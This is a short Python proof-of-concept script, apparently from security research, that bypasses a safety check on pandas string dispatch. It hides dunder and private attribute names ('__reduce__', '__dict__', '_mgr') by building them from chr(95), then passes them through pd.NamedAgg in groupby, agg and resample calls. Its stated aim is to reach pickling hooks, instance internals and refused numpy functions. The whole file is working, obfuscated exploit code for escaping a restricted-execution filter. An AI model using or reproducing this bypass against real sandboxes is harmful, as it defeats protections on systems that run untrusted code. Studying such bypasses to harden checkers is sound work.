# source: pandas 1.5 pandas/core/apply.py Apply._try_aggregate_string_function (getattr(obj, arg); non-callable returned,
#         callable called; else getattr(np, arg)(obj)) and SeriesGroupBy.aggregate ("return getattr(self, func)(*args, **kwargs)");
#         named aggregation pd.NamedAgg (pandas docs "Named aggregation"); cf. CVE-2024-9880 family (pandas string dispatch).
# family: pandas string dispatch with a run-time name hidden inside pd.NamedAgg(...) passed to agg(**kwargs)
#         (df.agg / groupby().agg / resample().agg / rolling().agg); check refuses agg(name) but not agg(x=pd.NamedAgg(col, name))
# goal: get/call any attribute (dunders, privates) of pandas objects and any numpy function (incl. refused ones) by a
#       name computed at run time; reaches copyreg._reconstructor, instance __dict__, the Series' private block manager
import pandas as pd

df = pd.DataFrame({"k": ["a", "b"], "v": [1.0, 2.0]}, index=pd.date_range("2024-01-01", periods=2))
u = chr(95) * 2
names = [u + "reduce" + u, u + "getstate" + u]
for name in names:
    r = df.groupby("k").agg(x=pd.NamedAgg("v", name))
    print("groupby", name, "->", list(r.x))

for name in [u + "dict" + u, "".join(["_", "mgr"])]:
    r = df.agg(x=pd.NamedAgg("v", name))
    print("series", name, "->", repr(r.iloc[0, 0])[:300])

name = u + "reduce" + u
r = df.resample("D").agg(x=pd.NamedAgg("v", name))
print("resample ->", list(r.x)[:2])
